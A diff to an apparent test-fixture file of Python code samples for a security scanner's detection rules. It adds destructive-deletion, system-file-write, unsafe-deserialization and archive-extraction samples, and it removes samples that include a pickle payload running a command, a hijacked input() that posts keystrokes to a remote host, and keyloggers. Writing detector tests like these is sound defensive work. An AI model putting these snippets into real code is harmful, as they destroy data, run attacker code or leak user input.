@@ -15,6 +15,103 @@ export const indirectSamples: RuleSample[] = [
     harmless: lines('import shutil', 'for folder in ("build", "dist", "/tmp/work"):', '    shutil.rmtree(folder)'),
   },
   {
+    rule: 'python/mass-deletion',
+    dangerous: [
+      lines('import shutil', 'def clear(path):', '    shutil.rmtree(path)', 'clear("/usr")'),
+      'shutil.rmtree(path)',
+    ],
+    evasion: [
+      lines('from pathlib import Path as P', 'for one in reversed(sorted(P.home().rglob("*"))):', '    one.unlink()'),
+      'one.unlink()',
+    ],
+    harmless: lines('import shutil', 'def clear(path="build"):', '    shutil.rmtree(path)', 'clear("dist")'),
+  },
+  {
+    rule: 'python/system-file-write',
+    dangerous: [
+      lines(
+        'def add(path, line):',
+        '    with open(path, "a") as file:',
+        '        file.write(line)',
+        'add("/etc/hosts", "x")',
+      ),
+      'open(path, "a")',
+    ],
+    evasion: [
+      lines(
+        'from pathlib import Path',
+        'def save(text, target="/etc/resolv.conf"):',
+        '    Path(target).write_text(text)',
+      ),
+      'Path(target).write_text(text)',
+    ],
+    harmless: lines(
+      'def add(path, line):',
+      '    with open(path, "a") as file:',
+      '        file.write(line)',
+      'add("a.txt", "x")',
+    ),
+  },
+  {
+    rule: 'python/unsafe-pickle',
+    dangerous: [
+      lines(
+        'import joblib',
+        'from flask import request',
+        'def load():',
+        '    request.files["model"].save("model.bin")',
+        '    return joblib.load("model.bin")',
+      ),
+      'joblib.load("model.bin")',
+    ],
+    evasion: [
+      lines(
+        'import pickle as p',
+        'from urllib.request import urlretrieve',
+        'urlretrieve("http://example.net/a", "a.bin")',
+        'with open("a.bin", "rb") as file:',
+        '    rows = p.load(file)',
+      ),
+      'p.load(file)',
+    ],
+    harmless: lines(
+      'import json',
+      'from flask import request',
+      'def load():',
+      '    request.files["rows"].save("rows.json")',
+      '    return json.load(open("rows.json"))',
+    ),
+  },
+  {
+    rule: 'python/unpack-anywhere',
+    dangerous: [
+      lines(
+        'import requests, tarfile',
+        'with open("a.tar", "wb") as file:',
+        '    file.write(requests.get("https://example.net/a.tar", timeout=9).content)',
+        'tarfile.open("a.tar").extractall("out")',
+      ),
+      'tarfile.open("a.tar").extractall("out")',
+    ],
+    evasion: [
+      lines(
+        'import shutil, tempfile',
+        'from flask import request',
+        'def load():',
+        '    folder = tempfile.mkdtemp()',
+        '    request.files["a"].save(folder + "/a.tar")',
+        '    shutil.unpack_archive(folder + "/a.tar", "out")',
+      ),
+      'shutil.unpack_archive(folder + "/a.tar", "out")',
+    ],
+    harmless: lines(
+      'import requests, tarfile',
+      'with open("a.tar", "wb") as file:',
+      '    file.write(requests.get("https://example.net/a.tar", timeout=9).content)',
+      'tarfile.open("a.tar").extractall("out", filter="data")',
+    ),
+  },
+  {
     rule: 'python/loose-permissions',
     dangerous: [lines('import os', 'os.chmod("/etc/app.conf", 0o666)'), 'os.chmod("/etc/app.conf", 0o666)'],
     evasion: [
@@ -88,140 +185,5 @@ export const indirectSamples: RuleSample[] = [
       '    file.write(requests.get("https://example.net/rows.json", timeout=9).text)',
       'subprocess.run([sys.executable, "plot.py", "rows.json"])',
     ),
-  },
-  {
-    rule: 'python/eval',
-    dangerous: [lines('@exec', '@input', 'class Hidden:', '    pass'), '@exec\n'],
-    evasion: [
-      lines('run = exec', 'def load(source, values):', '    names = dict(values)', '    run(source, names)'),
-      'run(source, names)',
-    ],
-    harmless: lines('import functools', '@functools.cache', 'def size(text):', '    return len(text)'),
-  },
-  {
-    rule: 'python/pickled-call',
-    dangerous: [
-      lines('import os', 'class Gift:', '    def __reduce__(self):', '        return (os.system, ("id",))'),
-      'return (os.system, ("id",))',
-    ],
-    evasion: [
-      lines(
-        'import subprocess as s',
-        'class A:',
-        '    def __reduce_ex__(self, _):',
-        '        return s.call, (["id"],)',
-      ),
-      'return s.call, (["id"],)',
-    ],
-    harmless: lines('class Point:', '    def __reduce__(self):', '        return Point, (self.x, self.y)'),
-  },
-  {
-    rule: 'python/shell-injection',
-    dangerous: [
-      lines('import ctypes, sys', 'ctypes.CDLL("libc.so.6").system(sys.argv[1].encode())'),
-      'ctypes.CDLL("libc.so.6").system(sys.argv[1].encode())',
-    ],
-    evasion: [
-      lines('import ctypes as c', 'lib = c.CDLL(None)', 'def start(text):', '    lib.popen(text, b"r")'),
-      'lib.popen(text, b"r")',
-    ],
-    harmless: lines('import ctypes', 'print(ctypes.CDLL("libm.so.6").abs(-3))'),
-  },
-  {
-    rule: 'python/header-injection',
-    dangerous: [
-      lines(
-        'from http.server import BaseHTTPRequestHandler',
-        'from urllib.parse import unquote',
-        'class Page(BaseHTTPRequestHandler):',
-        '    def do_GET(self):',
-        '        self.send_header("X-Page", unquote(self.path))',
-      ),
-      'self.send_header("X-Page", unquote(self.path))',
-    ],
-    evasion: [
-      lines(
-        'import http.server as h',
-        'class Page(h.BaseHTTPRequestHandler):',
-        '    def do_POST(self):',
-        '        name = self.headers["X-Name"]',
-        '        tell = self.send_header',
-        '        tell("Set-Cookie", f"name={name}")',
-      ),
-      'tell("Set-Cookie", f"name={name}")',
-    ],
-    harmless: lines(
-      'from http.server import BaseHTTPRequestHandler',
-      'from urllib.parse import quote',
-      'class Page(BaseHTTPRequestHandler):',
-      '    def do_GET(self):',
-      '        self.send_header("X-Page", quote(self.path))',
-    ),
-  },
-  {
-    rule: 'python/tls-not-verified',
-    dangerous: [
-      lines(
-        'import smtplib, ssl',
-        'context = ssl._create_unverified_context()',
-        'def send(password):',
-        '    smtplib.SMTP_SSL("mail.example.com", context=context).login("ann", password)',
-      ),
-      'ssl._create_unverified_context()',
-    ],
-    evasion: [lines('from ssl import _create_unverified_context as make', 'context = make()'), 'make()'],
-    harmless: lines(
-      'import smtplib, ssl',
-      'def send(password):',
-      '    context = ssl.create_default_context()',
-      '    smtplib.SMTP_SSL("mail.example.com", context=context).login("ann", password)',
-    ),
-  },
-  {
-    rule: 'python/replaced-builtin',
-    dangerous: [
-      lines(
-        'import builtins, requests',
-        'def ask(text):',
-        '    requests.post("https://a.example", data=text)',
-        'builtins.input = ask',
-      ),
-      'builtins.input = ask',
-    ],
-    evasion: [lines('import builtins as b', 'setattr(b, "open", print)'), 'setattr(b, "open", print)'],
-    harmless: lines('import sys', 'sys.excepthook = lambda *error: print(error)'),
-  },
-  {
-    rule: 'python/guessable-token',
-    dangerous: [
-      lines('import random', 'secret = "".join(random.choice("abcdef0123") for _ in range(32))'),
-      'secret = "".join(random.choice("abcdef0123") for _ in range(32))',
-    ],
-    evasion: [lines('import random as r', 'token = "%x" % r.getrandbits(128)'), 'token = "%x" % r.getrandbits(128)'],
-    harmless: lines('import random', 'secret = random.choice(["apple", "pear", "plum"])', 'print(len(secret))'),
-  },
-  {
-    rule: 'python/keylogger',
-    dangerous: [
-      lines(
-        'from pynput import keyboard',
-        'typed = ""',
-        'def on_press(key):',
-        '    global typed',
-        '    typed += str(key)',
-        'keyboard.Listener(on_press=on_press).start()',
-      ),
-      'keyboard.Listener(on_press=on_press)',
-    ],
-    evasion: [
-      lines(
-        'import pynput.keyboard as k',
-        'def seen(key):',
-        '    open("log", "a").write(str(key))',
-        'k.Listener(on_press=seen).run()',
-      ),
-      'k.Listener(on_press=seen)',
-    ],
-    harmless: lines('import keyboard', 'keyboard.add_hotkey("space", print)', 'keyboard.wait("esc")'),
   },
 ]
